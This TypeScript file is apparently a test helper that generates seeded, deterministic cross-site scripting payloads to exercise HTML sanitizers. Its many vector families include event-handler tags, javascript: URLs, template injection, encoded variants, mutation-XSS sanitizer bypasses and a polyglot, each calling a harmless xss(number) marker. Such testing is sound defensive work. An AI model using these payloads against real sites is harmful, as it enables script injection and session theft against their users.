import { seededRandom } from '../helpers/grid-city';

type Pick = <T>(choices: readonly T[]) => T;

/** One way to get a text run as code; `call` is the code that tells of it. */
type Family = (call: string, pick: Pick) => string;

const events = ['onerror', 'OnErRoR', 'onerror\n', 'onerror\t'] as const;
const gaps = [' ', '/', '\n', '\t', '\f', ' / '] as const;
const closers = [
  '"',
  "'",
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</svg>',
  '</noscript>',
  '\u0000',
  '\u2028',
] as const;
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\nscript:',
  'java&#9;script:',
  '\u0001javascript:',
] as const;

function image(call: string, pick: Pick): string {
  const gap = pick(gaps);
  return `<img${gap}src=x${gap === '/' ? ' ' : gap}${pick(events)}=${call}>`;
}

const families: Readonly<Record<string, Family>> = {
  image,
  script: (call, pick) => `${pick(['', '"', "'>"])}<script>${call}</script>`,
  vector: (call, pick) => `<svg${pick([' ', '/', '\n'])}onload=${call}>`,
  animation: (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  breakOut: (call, pick) => `${pick(closers)}${image(call, pick)}`,
  attribute: (call, pick) =>
    `${pick(['"', "'"])} ${pick(['autofocus onfocus', 'onmouseover', 'onclick'])}=${call} x=`,
  details: (call) => `<details open ontoggle=${call}>`,
  field: (call) => `<input autofocus onfocus=${call}>`,
  media: (call, pick) => `<${pick(['video', 'audio'])}><source onerror=${call}>`,
  frame: (call, pick) =>
    pick([
      `<iframe srcdoc="<script>parent.${call}</script>">`,
      `<iframe src="javascript:parent.${call}">`,
      `<object data="javascript:${call}">`,
      `<embed src="javascript:${call}">`,
    ]),
  link: (call, pick) => `<a href="${pick(schemes)}${call}">x</a>`,
  address: (call, pick) => `${pick(schemes)}${call}`,
  form: (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  base: (call, pick) =>
    pick([
      `<base href="javascript:${call}//">`,
      `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
      `<link rel=stylesheet href="data:text/css,*{color:red}" onload=${call}>`,
      `<style onload=${call}></style>`,
    ]),
  code: (call, pick) =>
    pick([
      `';${call};//`,
      `"-${call}-"`,
      `\${${call}}`,
      `\\x3cimg src=x onerror=${call}\\x3e`,
      `*/${call}/*`,
    ]),
  template: (call, pick) =>
    pick([
      `{{constructor.constructor('${call}')()}}`,
      `{count, plural, one {<script>${call}</script>} other {#}}`,
      `<%= ${call} %>`,
      `{name}<b onclick=${call}>`,
    ]),
  encoded: (call, pick) =>
    pick([
      `%3Cimg%20src%3Dx%20onerror%3D${call}%3E`,
      `&lt;img src=x onerror=${call}&gt;`,
      `&#60;img src=x onerror=${call}&#62;`,
      `%253Cimg src=x onerror=${call}%253E`,
    ]),
  mutation: (call, pick) =>
    pick([
      `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
      `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
      `<select><template><img src=x onerror=${call}></template></select>`,
    ]),
  polyglot: (call) =>
    `jaVasCript:/*-/*\`/*'/*"/**/(/* */oNcliCk=${call} )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=${call}//>`,
};

/** The names of the ways. */
export const familyNames = Object.keys(families);

/** One text that would run `xss(number)` where it became code. */
export interface Payload {
  readonly number: number;
  readonly family: string;
  readonly text: string;
}

/** So many payloads, all different, each family in turn; the same for the same seed. */
export function makePayloads(count: number, seed: number): readonly Payload[] {
  const random = seededRandom(seed);
  const pick: Pick = (choices) => choices[Math.floor(random() * choices.length)];
  return Array.from({ length: count }, (_, number) => {
    const family = familyNames[number % familyNames.length];
    return { number, family, text: families[family](`xss(${number})`, pick) };
  });
}
